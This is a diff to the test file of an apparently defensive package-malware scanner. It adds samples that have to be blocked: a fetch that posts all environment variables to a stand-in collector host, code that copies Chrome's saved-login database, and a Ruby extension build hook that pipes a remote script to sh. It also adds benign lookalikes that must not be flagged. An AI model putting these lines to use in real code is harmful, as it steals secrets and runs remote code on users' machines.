@@ -613,6 +613,22 @@ SPEC_TECHNIQUES_THAT_BLOCK = [
         '{ "name": "app", "dependencies": { "util2": "http://203.0.113.9/util2.tgz" } }',
         "mp.dep.insecure-url",
     ),
+    (
+        "index.js",
+        "fetch('https://collector.host.example/v2', { method: 'POST', body: JSON.stringify(process.env) });",
+        "mp.creds.env-body",
+    ),
+    (
+        "lib/s.js",
+        "const p = path.join(process.env.LOCALAPPDATA, 'Google', 'Chrome', 'User Data', 'Default', 'Login Data');\n"
+        "fs.copyFileSync(p, os.tmpdir() + '/ld');",
+        "mp.creds.browser-db",
+    ),
+    (
+        "ext/foo/extconf.rb",
+        "require 'mkmf'\nsystem(\"curl -s https://host.example/i.sh | sh\")\ncreate_makefile('foo')",
+        "mp.hook.extconf-exec",
+    ),
 ]
 
 
@@ -644,6 +660,13 @@ def test_spec_techniques_are_blocked_by_the_precheck(path, body, rule):
             '{ "devDependencies": { "eslint-config-internal": "github:myorg/eslint-config#v2" } }',
         ),
         ("package.json", '{ "repository": { "url": "http://203.0.113.9/repo.git" } }'),
+        (
+            "src/config.js",
+            "export const config = { port: Number(process.env.PORT ?? 3000), env: process.env };",
+        ),
+        ("pkg/run.py", "subprocess.run(cmd, env=os.environ, check=True)"),
+        ("ext/foo/extconf.rb", "require 'mkmf'\nhave_header('zlib.h')\ncreate_makefile('foo')"),
+        ("src/profile.js", "// Playwright keeps its own profile; never read the user's Chrome profile"),
     ],
 )
 def test_lookalikes_of_spec_techniques_stay_below_the_vote(path, body):
